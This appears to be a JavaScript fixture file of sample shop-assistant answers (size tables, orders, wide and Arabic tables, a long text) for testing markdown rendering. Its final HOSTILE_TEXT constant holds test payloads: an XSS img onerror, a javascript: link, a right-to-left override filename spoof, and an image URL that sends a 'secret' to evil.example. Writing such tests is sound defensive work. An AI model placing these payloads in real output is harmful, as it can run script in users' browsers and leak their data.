// The longer texts of the gallery.

export const RICH_ANSWER = `Here is a bit of everything.

## Sizes

| Size | Chest | Back |
| --- | --- | --- |
| S | 88–94 cm | 72 cm |
| M | 95–101 cm | 74 cm |
| L | 102–109 cm | 76 cm |

### How to measure

1. Stand straight.
2. Put the tape around the *widest* part:
   - not over a pullover
   - not pulled tight
3. Compare with the table.

> A jacket for cycling may be one size longer in the back.

\`\`\`js
const size = chest < 95 ? 'S' : chest < 102 ? 'M' : 'L';
console.log(\`Take \${size}, and don't forget that this line is long enough to scroll\`);
\`\`\`

More in the [size guide](https://shop.example/help/sizes), or \`npm run measure\`. ![A tape](https://cdn.shop.example/tape.png)
`;

export const ALIGNED = `# Your order

| Item | Stock | Price |
| :--- | :---: | ---: |
| Fjell jacket | 3 | €189.00 |
| سترة المطر | 12 | €49.00 |
| Wax | – | €1,095.50 |

## To do

- [x] Sizes are chosen
- [ ] The address is missing, and so is a day on which somebody is there to take it
  - [ ] Street
  - a plain point

1. Write to us.
2. Pay.
`;

export const WIDE_TABLE = `These are in stock:

| Product | Price | Material | Temperature | Availability | Article number |
| --- | --- | --- | --- | --- | --- |
| Fjell rain jacket | €129.00 | Three-layer polyester | 5–15 °C | Immediately | FJ-2024-0017 |
| Veld commuter shell | €95.00 | Ripstop nylon | 10–20 °C | Wednesday | VE-2024-0108 |
| Merino undershirt | €48.00 | Merino wool | −5–10 °C | Immediately | ME-2023-0442 |

Shall I put one into your cart?
`;

export const WIDE_TABLE_RTL = `هذه متوفرة الآن:

| المنتج | السعر | الخامة | الحرارة | التوفر | رقم الصنف |
| --- | --- | --- | --- | --- | --- |
| سترة المطر | €129.00 | بوليستر ثلاثي الطبقات | 5–15 °C | فورًا | FJ-2024-0017 |
| قميص صوف | €48.00 | صوف ميرينو | 5–10 °C | الأربعاء | ME-2023-0442 |
`;

const PARAGRAPH =
  'The shop began in a bicycle shed in 1998, with one sewing machine and forty metres of waxed cotton. The first jackets were heavy, and they kept the rain out for exactly one winter; the second ones are still worn.';

export const LONG_ANSWER = Array.from(
  { length: 12 },
  (_, index) => `**Part ${index + 1}.** ${PARAGRAPH}`,
).join('\n\n');

export const HOSTILE_TEXT =
  '<img src=x onerror=alert(1)> [click](javascript:alert(1)) \u202egnp.exe\u202c ' +
  'Aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa ' +
  '![x](https://evil.example/?q=secret) **bold** مرحبا بالعالم';
